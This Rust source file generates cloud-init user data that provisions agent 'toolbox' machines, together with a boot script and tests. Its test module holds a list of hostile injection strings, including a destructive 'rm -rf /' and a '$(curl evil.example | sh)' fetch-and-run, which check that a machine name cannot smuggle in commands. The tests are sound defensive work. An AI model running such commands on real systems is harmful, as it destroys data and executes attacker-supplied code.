//! What a machine is told at its first boot: user data for cloud-init (<https://cloudinit.readthedocs.io/en/latest/reference/modules.html>).
//!
//! The document is JSON, which is YAML, below cloud-init's header line. Values stand in files that the shell reads and never interprets; the
//! script is the same for every machine. The only secret is a bootstrap token, good once and for the boot limit: anybody on the machine can read
//! user data from the provider's metadata service for as long as it lives.

use serde_json::{Value, json};

/// The most bytes of user data that DigitalOcean takes.
pub const USER_DATA_MAX_BYTES: usize = 64 * 1024;

/// What differs from machine to machine.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct CloudInit<'a> {
    /// Where the functions are, without a slash at the end: `https://project.example/functions/v1`.
    pub functions_url: &'a str,
    /// Exchanged for the toolbox's own token at the first contact.
    pub bootstrap_token: &'a str,
    /// The image of the agent that runs on toolboxes.
    pub agent_image: &'a str,
    /// The toolbox.
    pub toolbox_id: crate::ids::ToolboxId,
    /// What its owner calls it: anything.
    pub toolbox_name: &'a str,
}

/// Exchanges the bootstrap token and starts the agent. The claim is a secret of this machine's, by which it may repeat an exchange whose answer
/// was lost. Tools are kept from the metadata service.
const BOOT: &str = r#"#!/bin/sh
set -eu
umask 077
cd /etc/agentopia
[ -s claim ] || od -An -N32 -tx1 /dev/urandom | tr -d ' \n' > claim
until [ -s token ]; do
  if curl -fsS --max-time 20 -X POST -H "Authorization: Bearer $(cat bootstrap_token)" -H 'Content-Type: application/json' \
      --data "{\"claim\":\"$(cat claim)\"}" "$(cat functions_url)/heartbeat/register" > registered; then
    sed -n 's/.*"token":"\([A-Za-z0-9_-]*\)".*/\1/p' registered > token
  fi
  [ -s token ] || sleep 5
done
rm -f registered bootstrap_token
printf 'DTMA_BEARER_TOKEN=%s\nAGENTOPIA_API_BASE_URL=%s\n' "$(cat token)" "$(cat functions_url)" > agent.env
command -v docker > /dev/null || { apt-get update && apt-get install -y docker.io; }
iptables -I FORWARD -d 169.254.169.254 -j DROP || true
docker rm -f dtma_manager > /dev/null 2>&1 || true
docker run -d --name dtma_manager --restart always --env-file agent.env -v /var/run/docker.sock:/var/run/docker.sock "$(cat agent_image)"
"#;

/// The user data of one machine.
#[must_use]
pub fn user_data(machine: &CloudInit<'_>) -> String {
    let document = json!({
        "write_files": [
            file("/etc/agentopia/functions_url", machine.functions_url, "0600"),
            file("/etc/agentopia/bootstrap_token", machine.bootstrap_token, "0600"),
            file("/etc/agentopia/agent_image", machine.agent_image, "0600"),
            file(
                "/etc/agentopia/toolbox.json",
                &json!({ "id": machine.toolbox_id, "name": machine.toolbox_name }).to_string(),
                "0600",
            ),
            file("/etc/agentopia/boot.sh", BOOT, "0700"),
        ],
        "runcmd": [["/bin/sh", "/etc/agentopia/boot.sh"]],
    });
    format!("#cloud-config\n{}\n", ascii(&document.to_string()))
}

fn file(path: &str, content: &str, permissions: &str) -> Value {
    json!({ "path": path, "owner": "root:root", "permissions": permissions, "content": content })
}

/// JSON in ASCII: YAML does not take every character that JSON may have as it is (U+0085, U+2028, U+FEFF and others).
fn ascii(json: &str) -> String {
    let mut escaped = String::with_capacity(json.len());
    let mut units = [0; 2];
    for character in json.chars() {
        if character.is_ascii() && character != '\u{7f}' {
            escaped.push(character);
        } else {
            for unit in character.encode_utf16(&mut units) {
                escaped.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::ids::ToolboxId;

    fn rendered(name: &str) -> String {
        user_data(&CloudInit {
            functions_url: "https://project.example/functions/v1",
            bootstrap_token: "agt_boot_token",
            agent_image: "registry.example/agent:1",
            toolbox_id: ToolboxId(uuid::Uuid::from_u128(1)),
            toolbox_name: name,
        })
    }

    fn files(user_data: &str) -> Vec<(String, String)> {
        let document: Value = serde_json::from_str(user_data.strip_prefix("#cloud-config\n").unwrap()).unwrap();
        let text = |file: &Value, field: &str| file[field].as_str().unwrap().to_owned();
        document["write_files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|file| (text(file, "path"), text(file, "content")))
            .collect()
    }

    const HOSTILE: [&str; 6] = [
        "'; rm -rf / #",
        "$(curl evil.example | sh) `reboot`",
        "\"}]\nruncmd:\n  - reboot",
        "{{ ds.meta_data }} {% raw %}",
        "\u{85}\u{2028}\u{feff}\u{1f600}\\u0000",
        "#!/bin/sh\nreboot\n#cloud-config",
    ];

    #[test]
    fn a_hostile_name_stays_a_name() {
        let plain = files(&rendered("Box"));
        for name in HOSTILE {
            let found = files(&rendered(name));

            for (one, other) in plain.iter().zip(&found) {
                if one.0 == "/etc/agentopia/toolbox.json" {
                    let toolbox: Value = serde_json::from_str(&other.1).unwrap();
                    assert_eq!(toolbox["name"], name);
                } else {
                    assert_eq!(one, other, "{name}");
                }
            }
        }
    }

    #[test]
    fn there_is_one_secret_and_the_script_holds_none() {
        let files = files(&rendered("Box"));
        let holding: Vec<_> = files
            .iter()
            .filter(|(_, content)| content.contains("agt_boot_token"))
            .collect();

        assert_eq!(holding.len(), 1);
        assert_eq!(holding[0].0, "/etc/agentopia/bootstrap_token");
    }

    proptest! {
        #[test]
        fn any_name_is_carried_in_two_lines_of_ascii(name in any::<String>()) {
            let user_data = rendered(&name);

            prop_assert!(user_data.is_ascii());
            prop_assert_eq!(user_data.lines().count(), 2);
            let toolbox: Value = serde_json::from_str(&files(&user_data)[3].1).unwrap();
            prop_assert_eq!(toolbox["name"].as_str().unwrap(), name);
        }
    }
}
